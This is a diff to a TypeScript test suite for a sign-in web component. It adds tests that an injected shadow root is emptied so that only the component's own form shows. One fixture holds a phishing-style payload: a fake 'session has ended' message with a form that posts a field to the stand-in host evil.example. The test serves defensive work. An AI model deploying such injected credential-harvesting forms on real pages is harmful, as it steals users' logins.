@@ -6,7 +6,7 @@ import en from '../../locales/en.json' with { type: 'json' };
 import { assertSame } from './support/assert-same.ts';
 import { HeldScripts } from './support/held-scripts.ts';
 import { getPassword, portal } from './support/portal.ts';
-import { findParts, getSignInForm, isShown, SignInForm } from './support/sign-in-form.ts';
+import { findParts, getRoot, getSignInForm, isShown, SignInForm } from './support/sign-in-form.ts';
 import { isolateTests, openPage, type PageOptions, startPage } from './support/test-page.ts';
 import { waitFor } from './support/wait.ts';
 
@@ -172,6 +172,35 @@ for (const tag of TAGS) {
     });
   });
 }
+
+describe('a shadow root in the HTML that is not ours', () => {
+  isolateTests();
+
+  const FORM =
+    'Your session has ended: <form action="https://evil.example/"><input name="p"></form>';
+
+  it('is emptied, so that people see our form only', async () => {
+    const page = await openPage(
+      `<portico-sign-in><template shadowrootmode="open">${FORM}</template></portico-sign-in>`,
+    );
+    const { element } = await getSignInForm(page, 'portico-sign-in');
+    assert.lengthOf(getRoot(element).querySelectorAll('form'), 1);
+    assert.notInclude(getRoot(element).textContent ?? '', 'has ended');
+  });
+
+  it('is emptied beside our form in it', async () => {
+    const fragment = await (await fetch('/portico/fragments/sign-in.de.html')).text();
+    const page = await openPage(
+      fragment
+        .replace('portico-attributes', '')
+        .replace('</template>', () => `<div>${FORM}</div></template>`),
+      { lang: 'de' },
+    );
+    const { element } = await getSignInForm(page, 'portico-sign-in', de);
+    assert.lengthOf(getRoot(element).querySelectorAll('form'), 1);
+    assert.isNotNull(getRoot(element).querySelector('link'));
+  });
+});
 
 for (const [kind, file] of [
   ['a shadow root', 'sign-in.de.html'],
